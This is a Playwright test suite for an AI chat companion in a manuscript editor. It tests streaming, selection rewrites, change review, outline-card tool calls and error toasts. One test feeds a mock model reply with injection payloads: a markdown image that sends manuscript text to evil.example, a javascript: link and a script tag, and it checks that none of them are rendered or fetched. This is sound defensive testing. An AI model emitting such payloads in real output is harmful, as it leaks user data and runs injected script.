import { randomUUID } from 'node:crypto';
import { endpoints } from '@everdraft/core/api/endpoints';
import { expect } from '@playwright/test';
import { expectAccessible } from '../fixtures/accessibility.ts';
import { toastOf } from '../fixtures/auth-page.ts';
import { CompanionPage } from '../fixtures/companion-page.ts';
import { EditorPage } from '../fixtures/editor-page.ts';
import { test } from '../fixtures/with-model.ts';

/** What the server tells of a change of the outline. */
const CHANGE = {
  manuscriptId: randomUUID(),
  sessionId: randomUUID(),
  questionId: randomUUID(),
  replyId: randomUUID(),
  cardId: randomUUID(),
  title: 'The quay',
  before: {},
  after: {},
  madeAt: '2026-03-01T12:00:00.000Z',
  undoneAt: null,
  keptFields: [],
  isExpired: false,
};

const BOOK =
  '<h1>Low Water</h1><p>She turned up the collar.</p><p>It still smelled of tallow and wet rope.</p><p>“You’ll want the boat,” said Tib.</p>';

test('[COMPANION-3] [COMPANION-5] [COMPANION-8] [CHAT-13] [CHAT-31] [CHAT-36] [AI-9] [AI-11] [AI-12] [AI-14] a reply shows as it comes, can be stopped, is kept once, and can be carried on', async ({
  page,
  context,
  model,
  author: _,
}) => {
  const { id } = await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  const notice = companion.chat.getByText(/are sent to 127\.0\.0\.1:\d+ for an answer/);
  await expect(notice).toBeVisible();
  await companion.ask('How does she find the ledger?');
  const reply = await model.asked();
  expect(reply.request).toContain('It still smelled of tallow');
  reply.say('She puts her hand ');
  // The second word is not said before the first is read.
  await expect(companion.replies).toContainText('She puts her hand');
  await expect(companion.replies.locator('[data-streaming-cursor]')).toBeVisible();
  await expect(companion.replies.getByRole('button', { name: 'Insert at Cursor' })).toHaveCount(0);
  await expect(companion.input).not.toBeEditable();
  await expect(companion.input).toBeFocused();
  await companion.input.press('Enter');
  reply.say('into the coil');
  await expect(companion.replies).toContainText('into the coil');
  await companion.button('Stop').click();
  await reply.left;
  await expect(companion.replies).toContainText('Stopped');
  await expect(companion.input).toBeEditable();

  await companion.button('Continue').click();
  const rest = await model.asked();
  expect(rest.request).toContain('She puts her hand into the coil');
  rest.say('and it comes out dry.');
  rest.end();
  await expect(companion.replies.nth(1)).toContainText('and it comes out dry.');
  await expect(companion.button('Continue')).toHaveCount(0);

  await page.reload();
  await expect(companion.mine).toHaveText([
    'How does she find the ledger?',
    'Continue from where you stopped.',
  ]);
  await expect(companion.replies).toHaveCount(2);
  await expect(notice).toHaveCount(0);
  const [session] = await (
    await context.request.get(`${endpoints.listChatSessionsByQuery.path}?manuscriptId=${id}`)
  ).json();
  const messages = await (await context.request.get(`/api/chat-messages/session/${session.id}`)).json();
  expect(messages.map(({ role }: { role: string }) => role)).toEqual([
    'user',
    'assistant',
    'user',
    'assistant',
  ]);

  // A book that the author keeps from AI is answered about by the analyst, at once and on every device.
  await companion.button('What is sent of this book').click();
  await page.getByRole('switch', { name: 'Never send this book to AI' }).click();
  await page.keyboard.press('Escape');
  await expect(companion.chat.getByText('This book is not sent to any AI service.')).toBeVisible();
  await companion.ask('How many words are there?');
  await expect(companion.replies.nth(2)).toContainText('I am Everdraft’s built-in analyst');
  await expectAccessible(page, 'section[aria-label="AI chat"]');
  const marked = await context.request.get(`/api/manuscripts/${id}`);
  expect(await marked.json()).toMatchObject({ neverSendToAi: true });
});

test('[CHAT-15] what is selected goes along, stays selected while another device writes above it, and is replaced as one step', async ({
  page,
  context,
  model,
  author: _,
}) => {
  const { editor, id } = await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  await editor.text.getByText('It still smelled').click();
  await page.keyboard.press('Home');
  await page.keyboard.press('Shift+End');
  await expect(companion.chat.getByText('With the selection, 8 words')).toBeVisible();
  await companion.ask('Shorter.');
  const reply = await model.asked();
  expect(reply.request).toContain('<selected>');
  reply.say('It smelled of *rope*.\n\n---\n\nOne smell does more than two.');
  reply.end();
  await expect(companion.replies).toContainText('One smell does more');
  const content = BOOK.replace('<p>', '<p>The lamps were out.</p><p>');
  expect((await context.request.patch(`/api/manuscripts/${id}`, { data: { content } })).ok()).toBe(true);
  await expect(editor.text).toContainText('The lamps were out.');
  await expect(companion.chat.getByText('With the selection, 8 words')).toBeVisible();
  const before = await editor.blocks();
  await companion.replies.getByRole('button', { name: 'Replace Selection' }).click();
  const after = [...before];
  after[3] = 'p: It smelled of <em>rope</em>.';
  await expect.poll(() => editor.blocks()).toEqual(after);
  await expect(companion.replies.getByRole('button', { name: 'Replace Selection' })).toHaveCount(0);
  await page.keyboard.press('Control+z');
  await expect.poll(() => editor.blocks()).toEqual(before);
});

test('[COMPANION-6] [COMPANION-7] a rewrite is reviewed by keys, change by change, on its own words, and goes in as one step', async ({
  page,
  context,
  model,
  author: _,
}) => {
  const { editor, id } = await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  await page.getByRole('radio', { name: 'Editor' }).click();
  await editor.text.getByText('It still smelled').click();
  await page.keyboard.press('Home');
  await page.keyboard.press('Shift+End');
  await expect(companion.chat.getByText('With the selection, 8 words')).toBeVisible();
  await companion.ask('Tighter.');
  const reply = await model.asked();
  reply.say('It smelled of tallow and old rope.\n\n---\n\nStill says nothing.');
  reply.end();
  await expect(companion.replies).toContainText('Still says nothing.');
  // What was selected is held, also when it no longer is; another device writes above.
  await editor.text.getByText('said Tib').click();
  const content = BOOK.replace('<p>', '<p>The lamps were out.</p><p>');
  expect((await context.request.patch(`/api/manuscripts/${id}`, { data: { content } })).ok()).toBe(true);
  await expect(editor.text).toContainText('The lamps were out.');
  const before = await editor.blocks();

  await companion.button('Review Changes').click();
  const review = companion.chat.getByRole('group', { name: 'Proposed changes' });
  await expect(review).toBeFocused();
  await expect(review).toContainText('2 changes proposed 2 to go.');
  await expect(review.locator('del')).toHaveText(['removed:  still', 'removed: wet']);
  await expectAccessible(page, 'section[aria-label="AI chat"]');
  await page.keyboard.press('j');
  await expect(review.getByRole('status')).toContainText('2 of 2');
  await page.keyboard.press('k');
  await expect(review.getByRole('status')).toContainText('1 of 2');
  await page.keyboard.press('y');
  await expect(review).toContainText('1 accepted, 1 to go.');
  await page.keyboard.press('n');
  await expect(review).toContainText('1 accepted, 1 rejected, 0 to go.');
  expect(await editor.blocks()).toEqual(before);
  await expect(review.getByRole('button', { name: 'Done' })).toBeFocused();
  await page.keyboard.press('Enter');
  const after = [...before];
  after[3] = 'p: It smelled of tallow and wet rope.';
  await expect.poll(() => editor.blocks()).toEqual(after);
  await expect(editor.text).toBeFocused();
  await page.keyboard.press('Control+z');
  await expect.poll(() => editor.blocks()).toEqual(before);

  // After a reload it is still known what the reply was about; the mouse does what the keys do.
  await page.reload();
  await companion.button('Review Changes').click();
  await review.getByRole('button', { name: 'Accept the rest' }).click();
  await review.getByRole('button', { name: 'Done' }).click();
  after[3] = 'p: It smelled of tallow and old rope.';
  await expect.poll(() => editor.blocks()).toEqual(after);
});

test('[AI-17] [AI-18] a card that the author asks for is made, told of, and taken back by Undo in the chat', async ({
  page,
  model,
  author: _,
}) => {
  await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  await companion.ask('Make a card called “The dry coil”.');
  (await model.asked()).use('create_outline_card', { title: 'The dry coil', content: 'Rope.' });
  const rest = await model.asked();
  await expect(toastOf(page)).toContainText('Card Created');
  await expect(toastOf(page)).toContainText('Created outline card: The dry coil');
  rest.say('Done.');
  rest.end();
  const outline = page.getByRole('region', { name: 'Outline & Cards' });
  await expect(outline.getByRole('button', { name: 'The dry coil' })).toBeVisible();
  const line = companion.chat.getByText('Card Created: The dry coil');
  await expect(line).toBeVisible();
  await companion.button('Undo').click();
  await expect(companion.chat.getByText('Undone')).toBeVisible();
  await expect(outline.getByText('No Outline Cards Yet')).toBeVisible();
});

test('[CONTEXT-4] [COMPANION-9] [COMPANION-10] what was read leads to its place in the text, from its list and from a label in the reply', async ({
  page,
  model,
  author: _,
}) => {
  // More than this service is told of: passages are looked for.
  const filler = '<p>The tide went out and the boats lay on the mud until it came in again.</p>'.repeat(700);
  await EditorPage.open(page, `${BOOK}${filler}<p>Hannah hid the ledger under the third plank.</p>`);
  const companion = new CompanionPage(page);
  const selected = () => page.evaluate(() => String(getSelection()));
  await companion.ask('Where did Hannah hide the ledger?');
  const reply = await model.asked();
  const label = /\[(C1 P\d+)\][^[]*third plank/.exec(reply.request)?.[1] ?? 'none';
  reply.say(`Under a plank [${label}], not in the boat [C7 P99].`);
  reply.end();
  await companion.button(label).click();
  await expect.poll(selected).toContain('the third plank');
  await expect(companion.button('C7 P99')).toHaveCount(0);
  await expect(page.getByRole('textbox', { name: 'Manuscript' })).toBeFocused();
  await page.keyboard.press('ArrowRight');
  await expect.poll(selected).toBe('');
  await companion.chat.getByRole('button', { name: /^What I read/ }).click();
  // Not below the view, where the reply ends.
  await expect(companion.chat.locator('dl').first()).toBeInViewport();
  await companion.chat
    .getByRole('button', { name: /^C1 P\d+ .*$/ })
    .last()
    .click();
  await expect.poll(selected).toContain('the third plank');

  // What else is installed where this model answers can be chosen.
  await page.getByRole('button', { name: 'Settings', exact: true }).click();
  await page.getByRole('combobox', { name: 'Model' }).click();
  await expect(page.getByRole('option', { name: /^tide-2 / })).toBeVisible();
});

test('[COMPANION-4] a reply fetches nothing and runs nothing, whatever stands in it', async ({
  page,
  model,
  author: _,
}) => {
  const { editor } = await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  const foreign: string[] = [];
  const own = new URL(page.url()).origin;
  page.on('request', request => {
    if (!request.url().startsWith(own)) foreign.push(request.url());
  });
  await companion.ask('What now?');
  const reply = await model.asked();
  reply.say(
    '![map](https://evil.example/?q=tallow) <img src="https://evil.example/i.png"> [press](javascript:alert(1)) [site](https://site.example/a)\n\n<script>document.title = "taken"</script>',
  );
  reply.end();
  await expect(companion.replies).toContainText('<script>document.title = "taken"</script>');
  await expect(companion.replies.locator('img, script, iframe')).toHaveCount(0);
  const links = companion.replies.getByRole('link');
  await expect(links).toHaveText(['https://site.example/a']);
  await expect(links).toHaveAttribute('rel', /noopener/);
  await companion.replies.getByRole('button', { name: 'Insert at Cursor' }).click();
  await expect(editor.text).toContainText('<script>');
  await expect(editor.text.locator('script')).toHaveCount(0);
  await expect(page).toHaveTitle(/Low Water/);
  expect(foreign).toEqual([]);
});

test('[ERR-8] [ERR-9] [ERR-10] [ERR-11] [ERR-12] [ERR-13] [ERR-14] [ERR-15] [ERR-18] [AI-19] [AI-20] [AI-21] every failure has its title, and every change of the outline its toast', async ({
  page,
  author: _,
}) => {
  await EditorPage.open(page, BOOK);
  const companion = new CompanionPage(page);
  const toast = toastOf(page);
  let events: object[] = [];
  await page.route(`**${endpoints.askCompanion.path}`, route =>
    route.fulfill({
      contentType: 'text/event-stream',
      body: events.map(event => `data: ${JSON.stringify(event)}\n\n`).join(''),
    }),
  );
  const rows = [
    ['authentication_error', false, 'Authentication Error'],
    ['organization_verification_error', false, 'Organization Verification Required'],
    ['quota_error', false, 'Quota Exceeded'],
    ['rate_limit_error', true, 'Rate Limit'],
    ['stream_error', true, 'Temporary Error'],
    ['unknown_error', false, 'Error'],
  ] as const;
  for (const [code, isRetryable, title] of rows) {
    const userMessage = code === 'unknown_error' ? '' : `Because of ${code}.`;
    events = [{ type: 'error', message: 'raw', userMessage, code, isRetryable }];
    await companion.ask(`Try ${code}`);
    await expect(toast).toContainText(userMessage || 'Failed to get AI response. Please try again.');
    await expect(toast.getByText(title, { exact: true })).toBeVisible();
  }
  const results = [
    ['update_outline_card', 'update', 'Card Updated'],
    ['delete_outline_card', 'delete', 'Card Deleted'],
    ['create_outline_card', undefined, 'Tool Execution Failed'],
  ] as const;
  for (const [tool, action, title] of results) {
    const change = action && { ...CHANGE, id: randomUUID(), action };
    const outcome = change ? { success: true, change } : { success: false, error: 'No such card.' };
    const result = { type: 'tool_result', tool, title: 'The quay', ...outcome };
    events = [result, { type: 'content', content: 'So.' }, { type: 'done', totalTokens: 1 }];
    await companion.ask(`Use ${tool}`);
    await expect(toast.getByText(title, { exact: true })).toBeVisible();
  }
});
